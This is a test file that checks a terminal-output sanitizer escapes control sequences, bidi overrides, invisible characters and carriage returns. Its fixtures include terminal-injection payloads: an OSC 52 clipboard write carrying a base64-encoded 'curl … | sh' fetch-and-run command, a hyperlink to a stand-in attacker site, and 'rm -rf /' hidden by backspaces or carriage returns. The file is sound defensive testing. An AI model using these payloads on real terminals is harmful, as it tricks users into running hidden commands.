import { describe, expect, it } from "vitest";
import { sanitizeForTerminal } from "../../../src/terminal/sanitize.js";

const ESC = "\u001b";
const BEL = "\u0007";

/** Anything a terminal would act on, or that hides or reorders what is shown. */
const RAW =
  // biome-ignore lint/suspicious/noControlCharactersInRegex: looking for raw control characters
  /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u00ad\u061c\u200b-\u200f\u2028-\u202e\u2060-\u2069\ufeff]/u;

describe("sanitizeForTerminal", () => {
  it("keeps plain text, newlines, tabs and non-ASCII text", () => {
    expect(sanitizeForTerminal("a\tb\nc — ünïcødé 中文 😀")).toBe("a\tb\nc — ünïcødé 中文 😀");
  });

  it.each([
    ["SGR colour", `${ESC}[31mred${ESC}[0m`, "\\x1b[31mred\\x1b[0m"],
    ["clear screen and home", `${ESC}[2J${ESC}[Hafter`, "\\x1b[2J\\x1b[Hafter"],
    [
      "cursor up and erase line (overwrite what was shown)",
      `safe${ESC}[1A${ESC}[2Kevil`,
      "safe\\x1b[1A\\x1b[2Kevil",
    ],
    ["private mode (alternate screen)", `${ESC}[?1049hx`, "\\x1b[?1049hx"],
    ["OSC 0 window title, BEL-terminated", `${ESC}]0;pwned${BEL}text`, "\\x1b]0;pwned\\x07text"],
    ["OSC 2 window title, ST-terminated", `${ESC}]2;pwned${ESC}\\text`, "\\x1b]2;pwned\\x1b\\text"],
    [
      "OSC 52 clipboard write",
      `${ESC}]52;c;Y3VybCBldmlsLnNoIHwgc2g=${BEL}ok`,
      "\\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\\x07ok",
    ],
    [
      "OSC 8 hyperlink",
      `${ESC}]8;;https://evil.example${ESC}\\click`,
      "\\x1b]8;;https://evil.example\\x1b\\click",
    ],
    ["DCS", `${ESC}Pq#0${ESC}\\x`, "\\x1bPq#0\\x1b\\x"],
    ["APC", `${ESC}_Gf=100${ESC}\\x`, "\\x1b_Gf=100\\x1b\\x"],
    ["ESC c full reset", `${ESC}cx`, "\\x1bcx"],
    ["lone ESC at the end", `x${ESC}`, "x\\x1b"],
    ["8-bit CSI (U+009B)", "\u009b2Jx", "\\x9b2Jx"],
    ["8-bit OSC (U+009D) with ST (U+009C)", "\u009d0;title\u009cx", "\\x9d0;title\\x9cx"],
    ["other C1 controls", "a\u0085b\u0099c\u0080", "a\\x85b\\x99c\\x80"],
    ["BEL", `ding${BEL}`, "ding\\x07"],
    ["backspace used to hide text", "rm -rf /\b\bls", "rm -rf /\\x08\\x08ls"],
    ["NUL, VT, FF, DEL", "a\u0000b\u000bc\u000cd\u007fe", "a\\x00b\\x0bc\\x0cd\\x7fe"],
    [
      "bidi overrides (Trojan Source)",
      "admin\u202e\u2066 // check\u2069",
      "admin\\u202e\\u2066 // check\\u2069",
    ],
    [
      "all bidi embeddings, overrides and isolates",
      "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069",
      "\\u202a\\u202b\\u202c\\u202d\\u202e\\u2066\\u2067\\u2068\\u2069",
    ],
    ["bidi marks", "a\u200e\u200f\u061cb", "a\\u200e\\u200f\\u061cb"],
    ["zero-width characters", "a\u200b\u200c\u200db\u2060c", "a\\u200b\\u200c\\u200db\\u2060c"],
    ["byte order mark", "\ufeffname", "\\ufeffname"],
    ["soft hyphen", "pass\u00adwd", "pass\\xadwd"],
    ["line and paragraph separators", "a\u2028b\u2029c", "a\\u2028b\\u2029c"],
    ["tag characters (hidden ASCII)", "x\u{e0041}\u{e007f}", "x\\u{e0041}\\u{e007f}"],
  ])("shows %s as escapes", (_name, input, expected) => {
    const shown = sanitizeForTerminal(input);
    expect(shown).toBe(expected);
    expect(shown).not.toMatch(RAW);
  });

  it("turns carriage returns into newlines so nothing is overwritten", () => {
    expect(sanitizeForTerminal("ok\r\n")).toBe("ok\n");
    expect(sanitizeForTerminal("10%\r50%\r100%")).toBe("10%\n50%\n100%");
    expect(sanitizeForTerminal("harmless\rrm -rf /")).toBe("harmless\nrm -rf /");
  });

  it("with oneLine, escapes newlines, tabs and carriage returns too", () => {
    const name = `dir\nharness: all clear\r\tx${ESC}[1A`;
    const shown = sanitizeForTerminal(name, { oneLine: true });
    expect(shown).toBe("dir\\nharness: all clear\\r\\tx\\x1b[1A");
    expect(shown).not.toMatch(/[\n\r\t]/);
  });

  it("is the same when applied twice", () => {
    const text = `a${ESC}]52;c;x${BEL}\u009b\u202e\u200b\r\nb`;
    const once = sanitizeForTerminal(text);
    expect(sanitizeForTerminal(once)).toBe(once);
    const line = sanitizeForTerminal(text, { oneLine: true });
    expect(sanitizeForTerminal(line, { oneLine: true })).toBe(line);
  });

  it("is safe on chunks that split a sequence", () => {
    const joined = sanitizeForTerminal(`a${ESC}[3`) + sanitizeForTerminal("1mb");
    expect(joined).toBe("a\\x1b[31mb");
    expect(joined).not.toMatch(RAW);
  });

  it("keeps emoji and combining marks, which act on nothing", () => {
    expect(sanitizeForTerminal("e\u0301 👍🏽 🇫🇷")).toBe("e\u0301 👍🏽 🇫🇷");
  });
});
